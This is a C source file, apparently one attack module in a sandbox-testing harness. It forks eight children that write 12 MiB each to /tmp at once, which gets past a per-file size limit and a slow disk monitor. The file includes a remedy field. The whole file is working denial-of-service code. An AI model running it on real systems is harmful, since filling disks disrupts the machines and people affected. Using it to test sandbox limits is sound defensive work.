// SPDX-License-Identifier: MIT
/*
 * write-at-once.c - a disk bomb that is faster than who looks every ten milliseconds.
 *
 * Goal: more bytes on disk than the budget.
 * Means: eight files of 12 MiB, each within RLIMIT_FSIZE, are written at once by eight children
 * that were waiting with the bytes in their hands. On every processor that is megabytes a
 * millisecond, and children go on while their parent is being killed for it.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

enum { FILES = 8, MIB = 12 };

static char block[1 << 20];

/* Ends with the error, 0 for none, when the gate is opened. */
static _Noreturn void pour(int fd, int gate)
{
	char byte;

	while (read(gate, &byte, 1) < 0)
		continue;
	for (int i = 0; i < MIB; i++)
		if (write(fd, block, sizeof(block)) != sizeof(block))
			_exit(errno);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	int gate[2], status, refusal = 0;
	char name[16];

	if (chdir(getenv("TMPDIR") ?: "/tmp") || pipe(gate))
		return failed("pipe");
	for (size_t at = 0; at < sizeof(block); at += 4096)
		block[at] = 'x';
	attempting(b);
	for (int i = 0; i < FILES; i++) {
		int fd;
		pid_t child;

		snprintf(name, sizeof(name), "part-%d", i);
		fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		if (fd < 0)
			return denied("open");
		child = fork();
		if (child < 0)
			return denied("fork");
		if (child == 0) {
			close(gate[1]);
			pour(fd, gate[0]);
		}
	}
	close(gate[1]);
	while (wait(&status) > 0)
		refusal = WIFEXITED(status) && WEXITSTATUS(status) ? WEXITSTATUS(status) : refusal;
	errno = refusal;
	return refusal ? denied("write") : hold();
}

const struct attack attack = {
	.effect = "more bytes on disk than the budget, in a few milliseconds",
	.means = "eight files written at once by eight children, each within RLIMIT_FSIZE",
	.oracle = "usage:disk",
	.attack_id = "T1499.001, CWE-400",
	.remedy = "look at the disk every millisecond, and kill the children too; a quota",
	.refs = (const char *const[]){ "setrlimit(2): RLIMIT_FSIZE", "quotactl(2)", NULL },
	.run = run,
};
